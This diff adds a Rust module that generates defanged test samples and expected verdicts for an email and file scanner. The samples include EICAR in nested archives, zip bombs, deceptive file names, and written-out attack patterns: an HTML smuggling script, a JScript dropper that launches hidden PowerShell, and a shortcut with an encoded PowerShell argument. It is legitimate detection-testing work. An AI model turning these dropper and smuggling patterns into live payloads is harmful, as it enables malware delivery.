@@ -1,0 +1,668 @@
+//! Generators for harmless samples. Nothing here is malware: "executables"
+//! are headers with no code, the only signature is the EICAR test string,
+//! and bombs are made of zeros. Every sample names the verdict it must get
+//! with the bundled rules and default policy; tests assert each one.
+//!
+//! The EICAR string is assembled at run time from two halves so no source
+//! file holds it whole (desktop antivirus would quarantine the repository).
+
+use crate::model::{Action, InputKind};
+use std::io::Write;
+
+pub fn eicar() -> Vec<u8> {
+    let head = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
+    let tail = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
+    format!("{head}{tail}").into_bytes()
+}
+
+/// A harmless sample and what it must produce.
+#[derive(Debug, Clone)]
+pub struct Sample {
+    /// File name, also the test's name.
+    pub name: String,
+    pub kind: InputKind,
+    pub data: Vec<u8>,
+    pub expect: Action,
+    /// Finding names (rule names or built-in kinds) that must be present.
+    pub must_find: Vec<&'static str>,
+    pub about: &'static str,
+}
+
+fn sample(
+    name: &str,
+    kind: InputKind,
+    data: Vec<u8>,
+    expect: Action,
+    must_find: &[&'static str],
+    about: &'static str,
+) -> Sample {
+    Sample {
+        name: name.to_string(),
+        kind,
+        data,
+        expect,
+        must_find: must_find.to_vec(),
+        about,
+    }
+}
+
+/// A PE header and nothing else: detected as PE, runs nothing.
+pub fn fake_pe() -> Vec<u8> {
+    let mut pe = vec![0u8; 512];
+    pe[0..2].copy_from_slice(b"MZ");
+    pe[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
+    pe[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes()); // i386
+    pe[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
+    pe
+}
+
+pub fn fake_elf() -> Vec<u8> {
+    let mut elf = vec![0u8; 128];
+    elf[0..4].copy_from_slice(b"\x7fELF");
+    elf[4] = 2; // 64-bit
+    elf[5] = 1; // little endian
+    elf[6] = 1;
+    elf[16] = 2; // ET_EXEC
+    elf[18] = 0x3e; // x86-64
+    elf
+}
+
+/// A Windows shortcut header whose arguments start PowerShell. The target
+/// is a string; nothing can run.
+pub fn fake_lnk() -> Vec<u8> {
+    let mut lnk = vec![
+        0x4c, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
+    ];
+    lnk.resize(76, 0);
+    for s in [
+        "C:\\Windows\\System32\\cmd.exe",
+        " /c powershell -w hidden -enc SQBFAFgA",
+    ] {
+        for u in s.encode_utf16() {
+            lnk.extend_from_slice(&u.to_le_bytes());
+        }
+    }
+    lnk
+}
+
+/// An ISO 9660 volume descriptor at 0x8001 and no files.
+pub fn fake_iso() -> Vec<u8> {
+    let mut iso = vec![0u8; 0x8800];
+    iso[0x8000] = 1;
+    iso[0x8001..0x8006].copy_from_slice(b"CD001");
+    iso[0x8006] = 1;
+    iso
+}
+
+/// A minimal valid PDF with text only.
+pub fn clean_pdf() -> Vec<u8> {
+    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n".to_vec()
+}
+
+/// A 1x1 PNG.
+pub fn png() -> Vec<u8> {
+    vec![
+        0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52, 0,
+        0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0, 0x1f, 0x15, 0xc4, 0x89, 0, 0, 0, 0x0a, 0x49, 0x44,
+        0x41, 0x54, 0x78, 0x9c, 0x63, 0, 1, 0, 0, 5, 0, 1, 0x0d, 0x0a, 0x2d, 0xb4, 0, 0, 0, 0,
+        0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
+    ]
+}
+
+/// A stand-in for a macro project: the OLE2 signature and the strings an
+/// auto-exec VBA module leaves in `vbaProject.bin`. Not a valid compound
+/// file and no code: it exercises the raw-string path of the macro rule.
+pub fn fake_vba_project() -> Vec<u8> {
+    let mut v = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
+    v.resize(512, 0);
+    for s in ["_VBA_PROJECT", "dir", "ThisDocument"] {
+        for u in s.encode_utf16() {
+            v.extend_from_slice(&u.to_le_bytes());
+        }
+    }
+    v.extend_from_slice(b"\x00Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n  MsgBox \"harmless\"\r\nEnd Sub\r\n");
+    v
+}
+
+pub const HTML_SMUGGLING: &str = r#"<!DOCTYPE html><html><body><script>
+var b64 = "UEsDBAoAAAAAAA==";
+var bin = atob(b64); var bytes = new Uint8Array(bin.length);
+for (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }
+var blob = new Blob([bytes], {type: "application/octet-stream"});
+var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
+a.download = "invoice.zip"; document.body.appendChild(a); a.click();
+</script></body></html>"#;
+
+pub const JS_DROPPER: &str = "var sh = new ActiveXObject(\"WScript.Shell\");\nvar x = new ActiveXObject(\"MSXML2.XMLHTTP\");\nx.open(\"GET\", \"http://example.invalid/a\", false);\nsh.Run(\"powershell -nop -w hidden -c calc\", 0);\n";
+
+// ---------------------------------------------------------------- containers
+
+/// Zip via the zip crate (deflate), entries in order.
+pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut out = std::io::Cursor::new(Vec::new());
+    {
+        let mut w = zip::ZipWriter::new(&mut out);
+        let opts = zip::write::SimpleFileOptions::default()
+            .compression_method(zip::CompressionMethod::Deflated);
+        for (name, data) in entries {
+            // Writing to memory cannot fail short of allocation failure.
+            w.start_file(*name, opts).expect("zip to memory");
+            w.write_all(data).expect("zip to memory");
+        }
+        w.finish().expect("zip to memory");
+    }
+    out.into_inner()
+}
+
+/// One raw zip entry for hand-built archives.
+pub struct RawEntry<'a> {
+    pub local_name: &'a str,
+    pub central_name: &'a str,
+    pub data: &'a [u8],
+    pub encrypted: bool,
+    /// Point the central entry at an earlier entry's local header.
+    pub reuse_local_of: Option<usize>,
+}
+
+/// A stored (uncompressed) zip written byte by byte, so samples can lie in
+/// ways the zip crate's writer refuses to: names that differ between local
+/// and central headers, entries sharing data, encryption flags.
+pub fn raw_zip(entries: &[RawEntry<'_>]) -> Vec<u8> {
+    let mut out = Vec::new();
+    let mut offsets = Vec::new();
+    for e in entries {
+        let crc = crc32(e.data);
+        let flags: u16 = if e.encrypted { 1 } else { 0 };
+        offsets.push(out.len() as u32);
+        if e.reuse_local_of.is_some() {
+            continue;
+        }
+        out.extend_from_slice(b"PK\x03\x04");
+        out.extend_from_slice(&20u16.to_le_bytes());
+        out.extend_from_slice(&flags.to_le_bytes());
+        out.extend_from_slice(&0u16.to_le_bytes()); // stored
+        out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
+        out.extend_from_slice(&crc.to_le_bytes());
+        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        out.extend_from_slice(&(e.local_name.len() as u16).to_le_bytes());
+        out.extend_from_slice(&0u16.to_le_bytes());
+        out.extend_from_slice(e.local_name.as_bytes());
+        out.extend_from_slice(e.data);
+    }
+    let cd_start = out.len() as u32;
+    for (i, e) in entries.iter().enumerate() {
+        let crc = crc32(e.data);
+        let flags: u16 = if e.encrypted { 1 } else { 0 };
+        let offset = e.reuse_local_of.map_or(offsets[i], |j| offsets[j]);
+        out.extend_from_slice(b"PK\x01\x02");
+        out.extend_from_slice(&20u16.to_le_bytes());
+        out.extend_from_slice(&20u16.to_le_bytes());
+        out.extend_from_slice(&flags.to_le_bytes());
+        out.extend_from_slice(&0u16.to_le_bytes());
+        out.extend_from_slice(&[0, 0, 0x21, 0]);
+        out.extend_from_slice(&crc.to_le_bytes());
+        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
+        out.extend_from_slice(&(e.central_name.len() as u16).to_le_bytes());
+        out.extend_from_slice(&[0; 8]); // extra, comment, disk, internal attrs
+        out.extend_from_slice(&[0; 4]); // external attrs
+        out.extend_from_slice(&offset.to_le_bytes());
+        out.extend_from_slice(e.central_name.as_bytes());
+    }
+    let cd_len = out.len() as u32 - cd_start;
+    out.extend_from_slice(b"PK\x05\x06");
+    out.extend_from_slice(&[0; 4]);
+    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
+    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
+    out.extend_from_slice(&cd_len.to_le_bytes());
+    out.extend_from_slice(&cd_start.to_le_bytes());
+    out.extend_from_slice(&0u16.to_le_bytes());
+    out
+}
+
+fn crc32(data: &[u8]) -> u32 {
+    let mut crc = 0xffff_ffffu32;
+    for &b in data {
+        crc ^= b as u32;
+        for _ in 0..8 {
+            crc = if crc & 1 != 0 {
+                (crc >> 1) ^ 0xedb8_8320
+            } else {
+                crc >> 1
+            };
+        }
+    }
+    !crc
+}
+
+pub fn gzip(name: &str, data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::GzBuilder::new()
+        .filename(name)
+        .write(Vec::new(), flate2::Compression::default());
+    e.write_all(data).expect("gzip to memory");
+    e.finish().expect("gzip to memory")
+}
+
+pub fn bzip2(data: &[u8]) -> Vec<u8> {
+    let mut e = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
+    e.write_all(data).expect("bzip2 to memory");
+    e.finish().expect("bzip2 to memory")
+}
+
+pub fn xz(data: &[u8]) -> Vec<u8> {
+    let mut w = lzma_rust2::XzWriter::new(Vec::new(), lzma_rust2::XzOptions::with_preset(6))
+        .expect("xz to memory");
+    w.write_all(data).expect("xz to memory");
+    w.finish().expect("xz to memory")
+}
+
+pub fn zstd(data: &[u8]) -> Vec<u8> {
+    zstd::stream::encode_all(data, 3).expect("zstd to memory")
+}
+
+pub fn tar(entries: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (name, data) in entries {
+        let mut h = tar::Header::new_ustar();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_cksum();
+        b.append_data(&mut h, name, *data).expect("tar to memory");
+    }
+    b.into_inner().expect("tar to memory")
+}
+
+// ---------------------------------------------------------------- messages
+
+pub struct Part<'a> {
+    pub content_type: &'a str,
+    pub name: Option<&'a str>,
+    /// `base64`, `quoted-printable` or `7bit`.
+    pub encoding: &'a str,
+    pub data: &'a [u8],
+}
+
+pub fn attachment<'a>(content_type: &'a str, name: &'a str, data: &'a [u8]) -> Part<'a> {
+    Part {
+        content_type,
+        name: Some(name),
+        encoding: "base64",
+        data,
+    }
+}
+
+fn b64(data: &[u8]) -> String {
+    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut s = String::with_capacity(data.len() * 4 / 3 + data.len() / 57 * 2 + 4);
+    for line in data.chunks(57) {
+        for c in line.chunks(3) {
+            let n = (c[0] as u32) << 16
+                | (*c.get(1).unwrap_or(&0) as u32) << 8
+                | *c.get(2).unwrap_or(&0) as u32;
+            s.push(T[(n >> 18) as usize & 63] as char);
+            s.push(T[(n >> 12) as usize & 63] as char);
+            s.push(if c.len() > 1 {
+                T[(n >> 6) as usize & 63] as char
+            } else {
+                '='
+            });
+            s.push(if c.len() > 2 {
+                T[n as usize & 63] as char
+            } else {
+                '='
+            });
+        }
+        s.push_str("\r\n");
+    }
+    s
+}
+
+fn qp(data: &[u8]) -> String {
+    let mut s = String::new();
+    let mut col = 0;
+    for &b in data {
+        let piece =
+            if (b == b'\r' || b == b'\n') || (b'!'..=b'~').contains(&b) && b != b'=' || b == b' ' {
+                (b as char).to_string()
+            } else {
+                format!("={b:02X}")
+            };
+        if b == b'\n' {
+            col = 0;
+        } else if col + piece.len() > 72 {
+            s.push_str("=\r\n");
+            col = 0;
+        }
+        col += piece.len();
+        s.push_str(&piece);
+    }
+    s
+}
+
+/// A multipart/mixed message with a text body and the given parts.
+pub fn message(subject: &str, body: &str, parts: &[Part<'_>]) -> Vec<u8> {
+    let boundary = "=_portcullis_sample_boundary";
+    let mut m = format!(
+        "From: Alice Sender <alice@example.org>\r\nTo: bob@example.com\r\nSubject: {subject}\r\nDate: Fri, 27 Nov 2026 09:00:00 +0000\r\nMessage-ID: <{}@example.org>\r\nMIME-Version: 1.0\r\n",
+        subject.replace(' ', ".").to_ascii_lowercase()
+    );
+    if parts.is_empty() {
+        m.push_str("Content-Type: text/plain; charset=utf-8\r\n\r\n");
+        m.push_str(body);
+        m.push_str("\r\n");
+        return m.into_bytes();
+    }
+    m.push_str(&format!("Content-Type: multipart/mixed; boundary=\"{boundary}\"\r\n\r\nThis is a multi-part message in MIME format.\r\n"));
+    m.push_str(&format!(
+        "--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{body}\r\n"
+    ));
+    for p in parts {
+        m.push_str(&format!("--{boundary}\r\nContent-Type: {}", p.content_type));
+        if let Some(name) = p.name {
+            m.push_str(&format!(
+                "; name=\"{name}\"\r\nContent-Disposition: attachment; filename=\"{name}\""
+            ));
+        }
+        m.push_str(&format!(
+            "\r\nContent-Transfer-Encoding: {}\r\n\r\n",
+            p.encoding
+        ));
+        match p.encoding {
+            "base64" => m.push_str(&b64(p.data)),
+            "quoted-printable" => {
+                m.push_str(&qp(p.data));
+                m.push_str("\r\n");
+            }
+            _ => {
+                m.push_str(&String::from_utf8_lossy(p.data));
+                m.push_str("\r\n");
+            }
+        }
+    }
+    m.push_str(&format!("--{boundary}--\r\n"));
+    m.into_bytes()
+}
+
+/// Same message with bare LF line endings, as many MTAs hand it over.
+pub fn to_lf(data: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(data.len());
+    let mut i = 0;
+    while i < data.len() {
+        if data[i] == b'\r' && data.get(i + 1) == Some(&b'\n') {
+            i += 1;
+            continue;
+        }
+        out.push(data[i]);
+        i += 1;
+    }
+    out
+}
+
+/// Zip nested in zip `levels` times around `inner`.
+pub fn nested_zip(levels: usize, inner: &[u8]) -> Vec<u8> {
+    let mut data = zip(&[("eicar.com", inner)]);
+    for i in 0..levels {
+        data = zip(&[(&format!("level{i}.zip"), &data)]);
+    }
+    data
+}
+
+/// Every sample with its expected verdict under the bundled rules and the
+/// default policy.
+pub fn all() -> Vec<Sample> {
+    use Action::*;
+    use InputKind::{File, Mail};
+    let e = eicar();
+    let pe = fake_pe();
+    let mut v = vec![
+        sample("clean_plain.eml", Mail, message("Lunch", "Shall we meet at noon?", &[]), Accept, &[], "plain text mail"),
+        sample(
+            "clean_pdf_and_png.eml",
+            Mail,
+            message("Report", "Attached the report.", &[attachment("application/pdf", "report.pdf", &clean_pdf()), attachment("image/png", "logo.png", &png())]),
+            Accept,
+            &[],
+            "ordinary attachments",
+        ),
+        sample("eicar.eml", Mail, message("Test", "see attachment", &[attachment("application/octet-stream", "eicar.com", &e)]), Reject, &["EICAR_Test_File", "HASH_EICAR"], "EICAR attached"),
+        sample("eicar_zip.eml", Mail, message("Zip", "zipped", &[attachment("application/zip", "files.zip", &zip(&[("readme.txt", b"hello"), ("eicar.com", &e)]))]), Reject, &["EICAR_Test_File"], "EICAR in a zip"),
+        sample("eicar_deep.eml", Mail, message("Deep", "nested", &[attachment("application/zip", "deep.zip", &nested_zip(5, &e))]), Reject, &["EICAR_Test_File"], "EICAR six zips deep"),
+        sample("eicar.com.gz", File, gzip("eicar.com", &e), Reject, &["EICAR_Test_File"], "EICAR in gzip"),
+        sample("eicar.com.bz2", File, bzip2(&e), Reject, &["EICAR_Test_File"], "EICAR in bzip2"),
+        sample("eicar.com.xz", File, xz(&e), Reject, &["EICAR_Test_File"], "EICAR in xz"),
+        sample("eicar.com.zst", File, zstd(&e), Reject, &["EICAR_Test_File"], "EICAR in zstd"),
+        sample("eicar.tar", File, tar(&[("docs/readme.txt", b"hi"), ("docs/eicar.com", &e)]), Reject, &["EICAR_Test_File"], "EICAR in tar"),
+        sample("eicar.tar.gz", File, gzip("eicar.tar", &tar(&[("eicar.com", &e)])), Reject, &["EICAR_Test_File"], "EICAR in tar.gz"),
+        sample(
+            "eicar_everything.eml",
+            Mail,
+            {
+                let inner_mail = message("Inner", "forwarded", &[attachment("application/x-xz", "a.tar.xz", &xz(&tar(&[("b.bz2", &bzip2(&zstd(&gzip("c", &zip(&[("eicar.com", &e)])))))])))]);
+                message("Outer", "fwd", &[Part { content_type: "message/rfc822", name: None, encoding: "base64", data: &inner_mail }])
+            },
+            Reject,
+            &["EICAR_Test_File"],
+            "EICAR in zip in gzip in zstd in bzip2 in tar in xz in a forwarded message",
+        ),
+        sample(
+            "eicar_forwarded_inline.eml",
+            Mail,
+            {
+                let inner_mail = message("Inner", "forwarded", &[attachment("application/octet-stream", "eicar.com", &e)]);
+                message("Outer", "fwd", &[Part { content_type: "message/rfc822", name: None, encoding: "7bit", data: &inner_mail }])
+            },
+            Reject,
+            &["EICAR_Test_File"],
+            "EICAR in an inline (7bit) forwarded message",
+        ),
+        sample("eicar_uuencoded.eml", Mail, message("uu", &crate::extract::uuencode_encode("eicar.com", &e), &[]), Reject, &["EICAR_Test_File"], "EICAR uuencoded in a text body"),
+        sample("eicar_qp_text.eml", Mail, message("qp", "body", &[Part { content_type: "text/plain; charset=iso-8859-1", name: None, encoding: "quoted-printable", data: &e }]), Reject, &["EICAR_Test_File"], "EICAR in a quoted-printable text part"),
+        sample("double_extension.eml", Mail, message("Invoice", "please pay", &[attachment("application/octet-stream", "invoice.pdf.exe", &pe)]), Reject, &["DOUBLE_EXTENSION", "Executable_PE"], "invoice.pdf.exe"),
+        sample("bidi_name.eml", Mail, message("Photo", "look", &[attachment("application/octet-stream", "photo\u{202e}gpj.exe", &pe)]), Reject, &["DECEPTIVE_NAME"], "right-to-left override hides .exe"),
+        sample("rfc2047_name.eml", Mail, message("Rechnung", "anbei", &[attachment("application/octet-stream", "=?UTF-8?B?UmVjaG51bmcucGRmLmV4ZQ==?=", &pe)]), Reject, &["DOUBLE_EXTENSION"], "RFC 2047 encoded Rechnung.pdf.exe"),
+        sample("pe_as_pdf.eml", Mail, message("Scan", "scan attached", &[attachment("application/pdf", "scan.pdf", &pe)]), Reject, &["DISGUISED_EXECUTABLE"], "PE declared as application/pdf"),
+        sample("pdf_as_png.eml", Mail, message("Img", "image", &[attachment("image/png", "image.png", &clean_pdf())]), Tag, &["TYPE_MISMATCH"], "a PDF named .png: a lie, not a weapon"),
+        sample("elf_in_zip.eml", Mail, message("Tool", "tool", &[attachment("application/zip", "tool.zip", &zip(&[("tool", &fake_elf())]))]), Quarantine, &["Executable_ELF"], "ELF executable in a zip"),
+        sample("html_smuggling.eml", Mail, message("Doc", "open it", &[attachment("text/html", "invoice.html", HTML_SMUGGLING.as_bytes())]), Quarantine, &["HTML_Smuggling_Blob"], "HTML builds a file with atob and Blob"),
+        sample("js_dropper.eml", Mail, message("Order", "order", &[attachment("application/octet-stream", "order.js", JS_DROPPER.as_bytes())]), Reject, &["Script_Dropper_WSH"], "JScript dropper"),
+        sample("lnk.eml", Mail, message("Doc", "doc", &[attachment("application/octet-stream", "document.lnk", &fake_lnk())]), Reject, &["LNK_Runs_Shell"], "shortcut that starts PowerShell"),
+        sample("iso.eml", Mail, message("Disk", "disk", &[attachment("application/octet-stream", "files.iso", &fake_iso())]), Quarantine, &["Container_ISO_Image", "UNOPENABLE"], "ISO disk image"),
+        sample("docm_autoopen.eml", Mail, message("Doc", "doc", &[attachment("application/vnd.ms-word.document.macroEnabled.12", "report.docm", &zip(&[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), ("word/vbaProject.bin", &fake_vba_project())]))]), Quarantine, &["Office_VBA_AutoExec"], "Word document with an AutoOpen macro"),
+        sample("encrypted_zip.eml", Mail, message("Secret", "password is 1234", &[attachment("application/zip", "secret.zip", &raw_zip(&[RawEntry { local_name: "invoice.exe", central_name: "invoice.exe", data: b"\x01\x02\x03encrypted-bytes", encrypted: true, reuse_local_of: None }]))]), Quarantine, &["ENCRYPTED"], "password-protected zip"),
+        sample("corrupt_zip.eml", Mail, message("Broken", "broken", &[attachment("application/zip", "broken.zip", &zip(&[("a.txt", &[b'a'; 4000])])[..60])]), Quarantine, &["UNOPENABLE"], "truncated zip"),
+        sample("bomb_depth.zip", File, nested_zip(20, b"deep"), Quarantine, &["LIMIT_DEPTH"], "zip nested 21 deep"),
+        sample("bomb_ratio.zip", File, zip(&[("zeros.bin", &vec![0u8; 48 << 20])]), Quarantine, &["LIMIT_RATIO"], "48 MiB of zeros in ~50 KB"),
+        sample("bomb_entries.zip", File, {
+            let names: Vec<String> = (0..1500).map(|i| format!("f{i}.txt")).collect();
+            let data: Vec<Vec<u8>> = (0..1500).map(|i| format!("entry {i}").into_bytes()).collect();
+            let entries: Vec<(&str, &[u8])> = names.iter().zip(&data).map(|(n, d)| (n.as_str(), d.as_slice())).collect();
+            zip(&entries)
+        }, Quarantine, &["LIMIT_OBJECTS"], "1500 entries"),
+        sample("bomb_overlap.zip", File, raw_zip(&[
+            RawEntry { local_name: "a.txt", central_name: "a.txt", data: b"harmless text", encrypted: false, reuse_local_of: None },
+            RawEntry { local_name: "", central_name: "b.exe", data: b"harmless text", encrypted: false, reuse_local_of: Some(0) },
+        ]), Quarantine, &["AMBIGUOUS_ARCHIVE"], "two entries share one local header"),
+        sample("name_mismatch.zip", File, raw_zip(&[
+            RawEntry { local_name: "invoice.exe", central_name: "invoice.txt", data: b"harmless", encrypted: false, reuse_local_of: None },
+        ]), Quarantine, &["AMBIGUOUS_ARCHIVE"], "local and central headers name different files"),
+        sample("malformed_mime.eml", Mail, b"From: a@example.org\r\nTo: b@example.com\r\nSubject: sloppy\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"xyz\"\r\n\r\n--xyz\r\nContent-Type: text/plain\r\n\r\nhello\r\n--xyz\r\nContent-Type: application/octet-stream; name=\"a.bin\"\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64!!!\r\n".to_vec(), Accept, &["MALFORMED_MIME"], "no closing boundary, broken base64: sloppy, not dangerous"),
+        sample("headers_only.eml", Mail, b"Subject: nothing else\r\n".to_vec(), Accept, &[], "a message with no body"),
+        sample("not_mail.eml", Mail, b"\x00\x01\x02 binary junk with no headers at all".to_vec(), Accept, &["MALFORMED_MIME"], "bytes that are not a message"),
+        sample("duplicate_attachments.eml", Mail, message("Twice", "twice", &[attachment("application/pdf", "a.pdf", &clean_pdf()), attachment("application/pdf", "b.pdf", &clean_pdf())]), Accept, &[], "the same PDF twice: scanned once"),
+    ];
+    // Every message sample also with bare LF line endings.
+    let lf: Vec<Sample> = v
+        .iter()
+        .filter(|s| s.kind == Mail && s.data.windows(2).any(|w| w == b"\r\n"))
+        .map(|s| Sample {
+            name: s.name.replace(".eml", "_lf.eml"),
+            data: to_lf(&s.data),
+            ..s.clone()
+        })
+        .collect();
+    v.extend(lf);
+    v
+}
+
+/// A deterministic corpus shaped like a real mail stream, for benchmarks:
+/// mostly small text and HTML mail, some with PDFs, images, Office files and
+/// zips, a few of several MB, and one in fifty with EICAR.
+pub fn corpus(count: usize, seed: u64) -> Vec<Vec<u8>> {
+    let mut rng = seed | 1;
+    let mut next = move || {
+        rng ^= rng << 13;
+        rng ^= rng >> 7;
+        rng ^= rng << 17;
+        rng
+    };
+    let words = [
+        "invoice",
+        "meeting",
+        "quarterly",
+        "report",
+        "please",
+        "review",
+        "attached",
+        "thanks",
+        "regards",
+        "schedule",
+        "budget",
+        "project",
+        "update",
+        "customer",
+        "delivery",
+    ];
+    let text = |n: usize, next: &mut dyn FnMut() -> u64| {
+        let mut s = String::new();
+        for i in 0..n {
+            s.push_str(words[(next() % words.len() as u64) as usize]);
+            s.push(if i % 12 == 11 { '\n' } else { ' ' });
+        }
+        s
+    };
+    let e = eicar();
+    let mut out = Vec::with_capacity(count);
+    for i in 0..count {
+        let kind = next() % 100;
+        let body = text(40 + (next() % 400) as usize, &mut next);
+        let blob = |size: usize, next: &mut dyn FnMut() -> u64| -> Vec<u8> {
+            // Half text, half noise: compresses like real documents do.
+            let mut v = Vec::with_capacity(size);
+            while v.len() < size {
+                if next() % 2 == 0 {
+                    v.extend_from_slice(
+                        b"stream BT /F1 12 Tf 72 712 Td (quarterly report) Tj ET endstream ",
+                    );
+                } else {
+                    v.extend_from_slice(&next().to_le_bytes());
+                }
+            }
+            v.truncate(size);
+            v
+        };
+        let msg = match kind {
+            0..=39 => message(&format!("Note {i}"), &body, &[]),
+            40..=54 => {
+                let html = format!(
+                    "<html><body><p>{}</p><a href=\"https://example.com/{i}\">link</a></body></html>",
+                    body.replace('\n', "<br>")
+                );
+                message(
+                    &format!("News {i}"),
+                    &body,
+                    &[Part {
+                        content_type: "text/html; charset=utf-8",
+                        name: None,
+                        encoding: "quoted-printable",
+                        data: html.as_bytes(),
+                    }],
+                )
+            }
+            55..=69 => {
+                let mut pdf = clean_pdf();
+                pdf.extend(blob(20_000 + (next() % 60_000) as usize, &mut next));
+                message(
+                    &format!("Report {i}"),
+                    &body,
+                    &[attachment("application/pdf", "report.pdf", &pdf)],
+                )
+            }
+            70..=79 => {
+                let mut img = png();
+                img.extend(blob(10_000 + (next() % 80_000) as usize, &mut next));
+                message(
+                    &format!("Photo {i}"),
+                    &body,
+                    &[attachment("image/png", "photo.png", &img)],
+                )
+            }
+            80..=89 => {
+                let doc = zip(&[
+                    ("[Content_Types].xml", b"<Types/>"),
+                    (
+                        "word/document.xml",
+                        &blob(30_000 + (next() % 50_000) as usize, &mut next),
+                    ),
+                ]);
+                message(
+                    &format!("Draft {i}"),
+                    &body,
+                    &[attachment(
+                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+                        "draft.docx",
+                        &doc,
+                    )],
+                )
+            }
+            90..=96 => {
+                let z = zip(&[
+                    ("a.csv", text(2000, &mut next).as_bytes()),
+                    ("b.pdf", &blob(40_000, &mut next)),
+                ]);
+                message(
+                    &format!("Files {i}"),
+                    &body,
+                    &[attachment("application/zip", "files.zip", &z)],
+                )
+            }
+            97 => message(
+                &format!("Big {i}"),
+                &body,
+                &[attachment(
+                    "application/pdf",
+                    "big.pdf",
+                    &blob(3_000_000 + (next() % 2_000_000) as usize, &mut next),
+                )],
+            ),
+            _ => message(
+                &format!("Test {i}"),
+                &body,
+                &[attachment(
+                    "application/zip",
+                    "test.zip",
+                    &zip(&[("eicar.com", &e)]),
+                )],
+            ),
+        };
+        out.push(msg);
+    }
+    out
+}
+
+/// Writes every sample and a manifest (`expected.json`) into `dir`.
+pub fn write_all(dir: &std::path::Path) -> std::io::Result<usize> {
+    std::fs::create_dir_all(dir)?;
+    let samples = all();
+    let mut manifest = Vec::new();
+    for s in &samples {
+        std::fs::write(dir.join(&s.name), &s.data)?;
+        manifest.push(serde_json::json!({
+            "file": s.name, "kind": s.kind, "expect": s.expect, "must_find": s.must_find, "about": s.about,
+        }));
+    }
+    let text = serde_json::to_string_pretty(&manifest).map_err(std::io::Error::other)?;
+    std::fs::write(dir.join("expected.json"), text)?;
+    Ok(samples.len())
+}
